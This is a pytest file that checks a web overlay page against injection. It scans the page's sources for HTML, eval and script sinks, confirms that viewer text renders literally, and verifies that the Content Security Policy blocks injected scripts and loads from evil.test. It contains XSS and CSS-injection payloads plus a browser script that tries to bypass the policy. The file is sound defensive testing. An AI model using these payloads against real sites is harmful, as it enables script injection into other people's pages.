"""The page and strangers: their words are only ever text, and nothing of theirs is run, loaded or asked for."""

import json
import re
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from performer.core.files.home import PAGE
from tests.chromium import Chromium, Page
from tests.overlay.test_page import UP, bubble, caption, emote, present
from tests.performer.stage.standing import Standing

MARKUP = re.compile(
    r"""innerHTML | outerHTML | insertAdjacentHTML | document\s*\.\s*write | setHTML | parseHTML | DOMParser
    | createContextualFragment | srcdoc | cssText | \beval\b | \bnew\s+Function\b | \bimport\s*\( | javascript:
    | set(?:Timeout|Interval)\(\s*["'`] | setAttribute(?:NS)?\(\s*["'`](?:on|style) | \bon\w+\s*=\s*["'`]
    | importScripts | postMessage""",
    re.VERBOSE,
)
"""By what text could become markup, style or code."""
FOR_EXAMPLE = (
    "node.innerHTML = text",
    "node.outerHTML = text",
    'node.insertAdjacentHTML("beforeend", text)',
    "document.write(text)",
    "node.setHTML(text)",
    "Document.parseHTMLUnsafe(text)",
    "new DOMParser()",
    "range.createContextualFragment(text)",
    "frame.srcdoc = text",
    "node.style.cssText = text",
    "eval(text)",
    "new Function(text)",
    "import(text)",
    'location.href = "javascript:" + text',
    'setTimeout("run()", 1)',
    "setInterval(`run()`)",
    'node.setAttribute("onclick", text)',
    "node.setAttribute('style', text)",
    '<img onerror="run()">',
    "importScripts(text)",
    "parent.postMessage(text)",
)
HOSTILE = (
    "<img src=x onerror=pwned=1>",
    "<b>bold</b> &lt;i&gt; &amp; &#60;u&#62;",
    "</div></main><script>pwned=1</script>",
    "<style>body{display:none}</style><svg/onload=pwned=1>",
    "{{files}} ${pwned=1} `+pwned+`",
    "javascript:pwned=1//\\\";pwned=1;'",
    "url(//evil.test/x) ; } * { background: red",
    "مرحبا <b>world</b> שלום",
    "a\u202eb\u2066c</b>",
    "z\u0300\u0301\u0302\u0303\u0304a\u0316\u0317lgo",
)
TRIES = """(due) => new Promise((done) => {
    const seen = new Set(), thrown = [];
    addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
        seen.add(effectiveDirective);
        if (due.every((each) => seen.has(each))) done([[...seen].sort(), thrown]);
    });
    const away = "https://evil.test/x";
    const add = (tag, wishes) => document.body.append(Object.assign(document.createElement(tag), wishes));
    for (const attempt of [
        () => { document.body.innerHTML += "<i>"; },
        () => trustedTypes.createPolicy("mine", { createHTML: (text) => text }),
        () => eval("pwned = 1"),
        () => document.body.setAttribute("onclick", "pwned = 1"),
        () => add("script", { textContent: "pwned = 1" }),
        () => add("script", { src: away }),
        () => add("object", { data: away }),
        () => new Worker("/stage"),
    ]) {
        try { attempt(); thrown.push("nothing"); } catch (error) { thrown.push(error.name); }
    }
    import(away).catch(() => {});
    fetch(away).catch(() => {});
    new FontFace("evil", `url(${away})`).load().catch(() => {});
    add("img", { src: away });
    add("audio", { src: away });
    add("iframe", { src: away });
    add("link", { rel: "stylesheet", href: away });
    add("base", { href: away });
    add("form", { action: away });
    document.forms[0].submit();
})"""
STOPPED = [
    "base-uri",
    "connect-src",
    "font-src",
    "form-action",
    "frame-src",
    "img-src",
    "media-src",
    "require-trusted-types-for",
    "script-src-elem",
    "style-src-elem",
    "trusted-types",
]


def sources() -> Iterator[Path]:
    return (file for file in sorted(PAGE.iterdir()) if file.suffix in {".js", ".html", ".css"})


def test_no_source_of_the_page_makes_markup_style_or_code_of_text() -> None:
    found = {file.name: MARKUP.findall(file.read_text(encoding="utf-8")) for file in sources()}

    assert {name: words for name, words in found.items() if words} == {}
    assert [each for each in FOR_EXAMPLE if not MARKUP.search(each)] == []


def test_only_the_file_on_the_disk_has_a_script_within() -> None:
    scripts = {
        file.name: re.findall(r"<script(?![^>]*\bsrc=)[^>]*>|<style", file.read_text(encoding="utf-8"))
        for file in sources()
        if file.suffix == ".html"
    }

    assert {name for name, within in scripts.items() if within} == {"waiting.html"}


@pytest.mark.anyio
async def test_what_strangers_wrote_is_shown_as_it_is(house: Standing, page: Page) -> None:
    house.stage.show(bubble(HOSTILE[0]))
    house.stage.show(replace(emote(house), alt=HOSTILE[0], id=HOSTILE[1]))
    shown = []
    for text in HOSTILE:
        house.stage.show(caption(text))
        await page.until(f"document.querySelector('.caption')?.getAttribute('aria-label') === {text!r}")
        shown.append(await page.evaluate("document.querySelector('.caption .words').textContent"))
    await present(page, 3)

    assert shown == list(HOSTILE)
    assert await page.evaluate("document.querySelector('.bubble .words').textContent") == HOSTILE[0]
    assert await page.evaluate("[...document.querySelectorAll('.words')].map((each) => each.childElementCount)") == [
        0,
        0,
    ]
    assert await page.evaluate("typeof pwned") == "undefined"


@pytest.mark.anyio
async def test_the_browser_itself_is_told_to_run_and_fetch_nothing_of_others(
    chromium: Chromium, house: Standing
) -> None:
    page = await chromium.open(house.server.addresses.url)
    await page.until(UP)

    seen = await page.command(
        "Runtime.evaluate",
        expression=f"({TRIES})({json.dumps(STOPPED)})",
        awaitPromise=True,
        returnByValue=True,
        allowUnsafeEvalBlockedByCSP=False,
    )

    directives, thrown = seen["result"]["value"]
    assert directives == STOPPED
    assert thrown == ["TypeError", "TypeError", "EvalError", *["TypeError"] * 5]
    assert await page.evaluate("typeof pwned") == "undefined"
    await page.close()


@pytest.mark.anyio
async def test_no_page_of_another_origin_can_frame_it(chromium: Chromium, house: Standing) -> None:
    page = await chromium.open()
    address = json.dumps(house.server.addresses.url)
    await page.evaluate(f"document.body.append(Object.assign(document.createElement('iframe'), {{src: {address}}}))")

    assert "frame-ancestors 'self'" in await page.complaint()
    await page.close()
